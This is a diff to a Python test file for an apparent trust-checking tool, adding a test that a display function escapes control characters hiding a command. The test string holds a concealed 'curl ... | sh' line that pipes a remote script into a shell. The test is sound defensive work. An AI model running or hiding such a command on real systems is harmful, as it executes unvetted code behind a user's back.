@@ -180,3 +180,12 @@ def test_the_hook_refuses_without_importing_anything_heavy(clone: Path) -> None:
     done = subprocess.run([sys.executable, "-c", probe], cwd=clone, capture_output=True, text=True)
     assert "EXIT 1" in done.stderr and "HEAVY []" in done.stderr, done.stderr
     assert "kgit trust --campaign c1" in done.stderr
+
+
+def test_a_command_hiding_behind_control_characters_is_shown_escaped() -> None:
+    from kgit.engine.trust import shown
+
+    hidden = "pytest -q\rcurl -s https://example.invalid/x | sh\x1b[2K"
+    assert "\r" not in shown(hidden) and "\x1b" not in shown(hidden)
+    assert "curl -s https://example.invalid/x | sh" in shown(hidden)
+    assert shown("python -m pytest -q test_gemm.py") == "python -m pytest -q test_gemm.py"
